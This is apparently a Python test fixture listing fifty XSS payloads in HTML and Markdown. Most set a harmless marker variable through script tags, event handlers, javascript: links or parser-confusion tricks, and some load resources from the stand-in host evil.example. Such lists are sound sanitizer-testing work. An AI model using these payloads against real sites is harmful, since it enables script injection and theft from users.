"""Fifty texts that try to run a script: each would set `__xss`, open a dialog, or ask another host for something."""

from __future__ import annotations

RUN = "window.__xss=1"
AWAY = "https://evil.example"

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f'<div style="background:url({AWAY}/x.png)">x</div>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<<script>script>{RUN}<</script>/script>",
    f"</div></article><script>{RUN}</script>",
]  # fmt: skip

MARKDOWN = [
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](java&#x0A;script:{RUN})",
    f"[click](vbscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](x \"' onmouseover={RUN} '\")",
    f"![picture]({AWAY}/picture.png)",
    f"![picture](x' onerror={RUN} ')",
    f"![picture](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[click][ref]\n\n[ref]: javascript:{RUN}",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| a |\n| --- |\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>",
]

PAYLOADS = HTML + MARKDOWN
